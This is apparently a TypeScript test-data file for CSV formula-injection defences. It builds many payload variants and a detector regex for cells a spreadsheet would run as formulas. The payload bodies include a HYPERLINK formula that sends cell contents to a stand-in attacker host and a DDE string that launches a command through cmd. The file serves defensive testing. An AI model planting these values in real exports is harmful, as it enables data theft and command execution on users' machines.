// Test data (imported by tests only): text that a spreadsheet would run as a formula if a CSV cell began with it.
// Every formula start (= + - @, tab, carriage return, their full-width forms), alone, behind spaces or invisible
// characters, and with bodies that need quoting in CSV (quotes, commas) or look like numbers.

export const formulaStarts = ['=', '+', '-', '@', '\t', '\r', '\uff1d', '\uff0b', '\uff0d', '\uff20'] as const;
/** Spreadsheets skip these before a formula: spaces, zero-width space, word joiner, byte-order mark, left-to-right mark. */
export const formulaLeads = ['', ' ', '   ', '\u200b', '\u2060', '\ufeff', '\u200e', ' \u200b'] as const;
export const formulaBodies = ['1+1', 'HYPERLINK("http://attacker.example/?d="&A1,"Open")', "cmd|' /C calc'!A0", 'SUM(A1:A9), 2', '2019'] as const;

export const formulaPayloads: string[] = formulaLeads.flatMap((lead) => formulaStarts.flatMap((start) => formulaBodies.map((body) => `${lead}${start}${body}`)));

/** A cell as a spreadsheet reads it would start a formula. */
export const startsFormula = (cell: string) => /^[\s\u200b-\u200f\u2060\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20\t\r]/.test(cell);
